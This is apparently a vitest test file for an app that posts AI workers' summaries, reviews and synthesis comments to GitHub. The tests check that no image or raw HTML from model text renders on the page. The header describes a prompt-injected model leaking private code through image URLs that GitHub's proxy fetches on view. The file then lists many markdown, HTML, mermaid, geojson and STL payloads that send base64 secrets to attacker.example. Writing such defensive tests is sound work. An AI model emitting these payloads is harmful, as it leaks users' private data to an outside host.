import { describe, expect, it } from 'vitest';
import type { FakeGitHub } from '../../sim/github/fake-github.js';
import type { Completion } from '../../src/core/records/completion.js';
import { integrationBranch } from '../../src/core/vocabulary/ids.js';
import { PUBLISH_EXIT } from '../../src/session/publish/run-publish.js';
import { renderSynthesisComment } from '../../src/session/publish/write/post-synthesis.js';
import { fitBody } from '../../src/session/publish/write/pull-body.js';
import { makeCompletion, BUILD as PUBLISH_BUILD, workSession } from '../session/publish/fixture.js';
import { PULLS, usePublishHarness } from '../session/publish/harness.js';
import {
  makeReview,
  postedReview,
  REVIEW_ENV,
  reviewResult,
  servePull,
} from '../session/publish/review.js';
import { WORKER_COMPLETION } from '../session/publish/worker-paths.js';
import type { AppHarness } from '../support/app-harness.js';
import { startAppEachTest } from '../support/app-tests.js';
import { BUILD, labelledIssue, statusBody } from '../support/builds.js';
import { drawnFences, renderedEmbeds, renderMarkdown } from '../support/rendered-embeds.js';
import { driveBuild, makeScript } from '../support/scripted-sessions.js';

/**
 * Attack: a prompt-injected model that read private code writes an image whose
 * address carries it (`![x](https://attacker.example/p?d=<base64>)`, or raw
 * `<img>`, `<picture><source srcset>`) into text Baton posts as the app: a
 * worker's summary, decisions and concerns, a review and its comments, a
 * synthesis, a completion the final pull request reports. GitHub fetches every
 * image of a page through its camo proxy as soon as anyone opens it: the
 * secret leaves with the maintainer's first look, no click. The sandbox has no
 * other way out. Defence: no image and no raw HTML of a model's or a person's
 * text renders in what Baton posts (`withoutEmbeds`, src/core/vocabulary/embeds.ts,
 * as the text is placed; `escapeText` and its kin for one-line text); links do,
 * a click away, and code is kept as written. Judged as GitHub renders:
 * CommonMark and GFM, raw HTML passed through (`renderedEmbeds`).
 */

const HOST = 'https://attacker.example';
/** What the model read, as it would put it in an address (nothing publish's secret scan refuses). */
const SECRET = Buffer.from('private roadmap: ship the merger in May').toString('base64url');

/** Every way to make GitHub load an address that the model chose. */
const PAYLOADS = {
  'an inline image': `Build status: ![status](${HOST}/inline?d=${SECRET})`,
  'a reference image and its definition': `See ![logo][exfil].\n\n[exfil]: ${HOST}/reference?d=${SECRET}`,
  'a collapsed and a shortcut image': `![leak][] and ![leak]\n\n[leak]: ${HOST}/shortcut?d=${SECRET}`,
  'an <img> tag': `<img src="${HOST}/img?d=${SECRET}" width="1" height="1">`,
  'a <picture> with a source set': `<picture><source srcset="${HOST}/srcset?d=${SECRET} 1x"><img src="${HOST}/picture"></picture>`,
  'an HTML block': `<div align="center">\n<img src="${HOST}/block?d=${SECRET}">\n![hidden](${HOST}/in-block?d=${SECRET})\n</div>`,
  'an image inside a link': `[![ci](${HOST}/in-link?d=${SECRET})](https://example.com/ci)`,
  'an image in a list item': `- first\n- ![item](${HOST}/list?d=${SECRET})`,
  'an image in a block quote': `> As noted: ![quote](${HOST}/quote?d=${SECRET})`,
  'a code span a table cell splits': `| a | b | c |\n| - | - | - |\n| \`x|![cell](${HOST}/table?d=${SECRET})|y\` | 2 | 3 |`,
  'an image after an unclosed backtick': `Run \`npm test first ![tick](${HOST}/tick?d=${SECRET})`,
  'an <img> written with entities': `&lt;img src="${HOST}/entity?d=${SECRET}"&gt;`,
} as const;
const ALL = Object.values(PAYLOADS).join('\n\n');

/**
 * Fences GitHub draws rather than shows: mermaid 11.3
 * and later draw an image shape from an address, fetched as the page is
 * viewed; maps (`geojson`, `topojson`) and 3D models (`stl`) load what they
 * are given too. In both fence kinds, any case, after spaces, in containers.
 */
const IMG_SHAPE = `A@{ img: "${HOST}/mermaid?d=${SECRET}", label: "status", pos: "t", h: 1 }`;
const DRAWN = {
  'a mermaid image shape': `\`\`\`mermaid\nflowchart TD\n  ${IMG_SHAPE}\n\`\`\``,
  'a mermaid fence of tildes': `~~~mermaid\nflowchart TD\n  ${IMG_SHAPE}\n~~~`,
  'a Mermaid fence': `\`\`\`Mermaid\nflowchart TD\n  ${IMG_SHAPE}\n\`\`\``,
  'a MERMAID fence after three spaces': `   ~~~~ MERMAID\nflowchart TD\n  ${IMG_SHAPE}\n   ~~~~`,
  'a mermaid fence named with a reference': `\`\`\`&#109;ermaid\nflowchart TD\n  ${IMG_SHAPE}\n\`\`\``,
  'a mermaid fence in a block quote': `> \`\`\`mermaid\n> flowchart TD\n>   ${IMG_SHAPE}\n> \`\`\``,
  'a geojson map': `\`\`\`geojson\n{"type":"Point","coordinates":[0,0],"d":"${SECRET}"}\n\`\`\``,
  'a topojson map': `~~~topojson\n{"type":"Topology","d":"${SECRET}"}\n~~~`,
  'an STL model': `\`\`\`STL\nsolid ${SECRET}\nendsolid\n\`\`\``,
} as const;
const ALL_DRAWN = Object.values(DRAWN).join('\n\n');

/** Each drawn fence shows as code: its lines are on the page as written, in a code block. */
function expectShownAsCode(markdown: string): void {
  expect(drawnFences(markdown)).toEqual([]);
  const html = renderMarkdown(markdown);
  expect(html).toContain(`flowchart TD\n  A@{ img: &quot;${HOST}/mermaid?d=${SECRET}&quot;`);
  expect(html).toContain(`solid ${SECRET}\nendsolid`);
}

/** Code a model writes on purpose: a suggestion to apply, with `vec![…]` and a tag in it, and a code span. */
const CODE = [
  'Use the macro:',
  '',
  '```suggestion',
  'let sizes = vec![1, 2];',
  '<div class="login">',
  '```',
  '',
  'The call `![a](b)` is Markdown in a string; see [the guide](https://example.com/guide).',
].join('\n');

/** The page shows the code block and span as written, and the link as a link. */
function expectCodeAndLinkKept(markdown: string): void {
  const html = renderMarkdown(markdown);
  expect(html).toContain('let sizes = vec![1, 2];\n&lt;div class=&quot;login&quot;&gt;');
  expect(html).toContain('<code>![a](b)</code>');
  expect(html).toContain('<a href="https://example.com/guide">the guide</a>');
}

/** The entity-written tag still reads as text, and the model's words are still there. */
function expectShownAsText(markdown: string): void {
  const html = renderMarkdown(markdown);
  expect(html).toContain(`&lt;img src=&quot;<a href="${HOST}/entity`);
  expect(html).toContain('Build status: ![status]');
}

describe('a work session’s pull request body shows no image and no HTML of the model’s', () => {
  const h = usePublishHarness();

  async function publishWork(report: Partial<Completion>): Promise<string> {
    const completion = makeCompletion(report);
    workSession(
      h.fixture,
      {
        'src/login.ts': 'export const login = true;\n',
        [WORKER_COMPLETION]: JSON.stringify(completion),
      },
      { result: { completion } },
    );
    expect(await h.publish()).toBe(PUBLISH_EXIT.published);
    const opened = h.github.api.find((call) => call.method === 'POST' && call.path === PULLS);
    return (opened?.body as { body?: string } | undefined)?.body ?? '';
  }

  it('in its summary, decisions, concerns and follow-ups', async () => {
    const body = await publishWork({
      summary: `${ALL}\n\n${CODE}`,
      decisions: Object.values(PAYLOADS),
      concerns: Object.values(PAYLOADS),
      follow_up: [PAYLOADS['an inline image']],
    });

    expect(renderedEmbeds(body)).toEqual([]);
    expect(body).toContain(CODE);
    expectCodeAndLinkKept(body);
    expectShownAsText(body);
    expect(body).toMatch(
      /<!-- baton:worker build=12-add-login worker=W1\.1 -->\n\n<!-- baton:evidence [\w-]+ -->$/,
    );
  });

  it('in its summary and decisions, no fence GitHub would draw', async () => {
    const body = await publishWork({ summary: ALL_DRAWN, decisions: Object.values(DRAWN) });

    expect(drawnFences(ALL_DRAWN)).toHaveLength(Object.keys(DRAWN).length);
    expectShownAsCode(body);
  });

  it('where it is placed: in a list item, after a test line, defined in another item', async () => {
    // Alone each is code or no image; where Baton puts it, it would be one.
    const body = await publishWork({
      summary: 'Done.',
      decisions: [`\t![tab](${HOST}/tab?d=${SECRET})`],
      concerns: ['See ![ref][elsewhere].', `[elsewhere]: ${HOST}/elsewhere?d=${SECRET}`],
      tests: {
        status: 'not-run',
        command: null,
        detail: `\n\n    ![flat](${HOST}/flat?d=${SECRET})`,
      },
    });

    expect(renderedEmbeds(body)).toEqual([]);
  });
});

/** One review comment a payload, on the added lines of the pull request's src/login.ts. */
function commentsOnDiff(payloads: Record<string, string>) {
  return Object.values(payloads).map((body, i) => ({
    path: 'src/login.ts',
    line: (i % 3) + 1,
    side: 'RIGHT' as const,
    body,
  }));
}

describe('a review session’s review shows no image and no HTML of the model’s', () => {
  const h = usePublishHarness();

  it('in its body and every comment, on the diff or moved into the body', async () => {
    servePull(h);
    const onDiff = commentsOnDiff(PAYLOADS);
    const moved = [
      { path: 'src/app.ts', line: 1, side: 'RIGHT' as const, body: ALL },
      {
        path: 'src/app.ts',
        line: 2,
        side: 'RIGHT' as const,
        body: `\t![tab](${HOST}/moved?d=${SECRET})`,
      },
    ];
    const suggestion = { path: 'src/login.ts', line: 2, side: 'RIGHT' as const, body: CODE };
    const review = makeReview({
      body: `${ALL}\n\n${CODE}`,
      comments: [...onDiff, ...moved, suggestion],
    });
    h.fixture.writeResult(reviewResult(review));

    expect(await h.publish(REVIEW_ENV)).toBe(PUBLISH_EXIT.published);

    const posted = postedReview(h);
    expect(renderedEmbeds(posted.body)).toEqual([]);
    expectCodeAndLinkKept(posted.body);
    expectShownAsText(posted.body);
    expect(posted.comments).toHaveLength(onDiff.length + 1);
    for (const comment of posted.comments ?? []) expect(renderedEmbeds(comment.body)).toEqual([]);
    // The suggestion applies as the model wrote it: its comment is posted unchanged.
    expect(posted.comments?.at(-1)?.body).toBe(CODE);
  });
});

describe('a review session’s review shows no fence GitHub would draw', () => {
  const h = usePublishHarness();

  it('in its body and its comments', async () => {
    servePull(h);
    const comments = commentsOnDiff(DRAWN);
    h.fixture.writeResult(reviewResult(makeReview({ body: ALL_DRAWN, comments })));

    expect(await h.publish(REVIEW_ENV)).toBe(PUBLISH_EXIT.published);

    const posted = postedReview(h);
    expectShownAsCode(posted.body);
    expect(posted.comments).toHaveLength(comments.length);
    for (const comment of posted.comments ?? []) expect(drawnFences(comment.body)).toEqual([]);
  });
});

describe('a synthesis comment shows no image and no HTML of the model’s', () => {
  it('in its summary and follow-up questions, two of them on one line', () => {
    const body = renderSynthesisComment({
      build: PUBLISH_BUILD,
      marker: '<!-- baton:synthesis-run 4242 -->',
      synthesis: {
        summary: `${ALL}\n\n${CODE}`,
        // Alone, the question's image is in a code span; after the title's backtick it is not.
        follow_up: [
          { title: 'Ticks `', question: `\`![pair](${HOST}/pair?d=${SECRET})\`` },
          { title: 'Images', question: PAYLOADS['a reference image and its definition'] },
        ],
        proposed: ['W2.1', 'W2.2'],
      },
    });

    expect(renderedEmbeds(body)).toEqual([]);
    expectCodeAndLinkKept(body);
    expect(body.endsWith('\n\n<!-- baton:synthesis-run 4242 -->')).toBe(true);
  });
});

describe('a body cut to fit GitHub’s limit shows no image', () => {
  it('when the cut leaves a code span open', () => {
    const trailer = '<!-- baton:worker build=12-add-login worker=W1.1 -->';
    const image = `\`![cut](${HOST}/cut?d=${SECRET})`;
    // The cut falls after the image, before the backtick that closes its code span.
    const room = 60_000 - trailer.length - 40;
    const text = `${'a'.repeat(room - image.length - 10)} ${image} ${'b'.repeat(100)}\``;

    const body = fitBody(text, trailer);

    expect(body).toContain('… (cut to fit)');
    expect(body.length).toBeLessThan(65_536);
    expect(renderedEmbeds(body)).toEqual([]);
  });
});

describe('the app’s status comment and final pull request show no image and no HTML of a model’s', () => {
  let gh: FakeGitHub;
  let apps: AppHarness[];

  startAppEachTest((started) => ({ gh, apps } = started));

  /** One-line payloads fit a worker's title (at most 120 characters). */
  const titles = [
    `Login ![t](${HOST}/title?d=${SECRET})`,
    `Form <img src="${HOST}/title-img">`,
    `Session <picture><source srcset="${HOST}/title-set"></picture>`,
  ];
  const script = makeScript({
    workers: titles.map((title, i) => ({ id: `W1.${i + 1}`, title })),
    report: () => ({
      summary: ALL,
      decisions: Object.values(PAYLOADS),
      concerns: [`\`![pair](${HOST}/pair?d=${SECRET})\``, '`'],
      follow_up: [PAYLOADS['an image inside a link']],
    }),
  });

  it('from the plan to the final pull request', async () => {
    labelledIssue(gh);
    await driveBuild({ gh, apps, script });
    const planned = statusBody(gh, BUILD) ?? '';
    gh.addComment({ issue: 1, body: '/approve', user: 'maintainer' });
    await driveBuild({ gh, apps, script });

    for (const app of apps) expect(app.errors).toEqual([]);
    const final = [...gh.pulls.values()].find((pull) => pull.head === integrationBranch(BUILD));
    const status = statusBody(gh, BUILD) ?? '';
    expect(planned).toContain('W1.3');
    expect(status).toContain('W1.3');
    expect(final?.body).toContain('Closes #1');
    const comments = gh.comments.filter((c) => c.user.login === gh.botLogin);
    expect({
      plan: renderedEmbeds(planned),
      final: renderedEmbeds(final?.body ?? ''),
      status: renderedEmbeds(status),
      comments: comments.flatMap((comment) => renderedEmbeds(comment.body)),
    }).toEqual({ plan: [], final: [], status: [], comments: [] });
    // Baton's own plan graph, built from escaped ids, still draws.
    expect(drawnFences(planned)).toEqual(['mermaid']);
    expect(renderMarkdown(final?.body ?? '')).toContain('Build status: ![status]');
  });
});
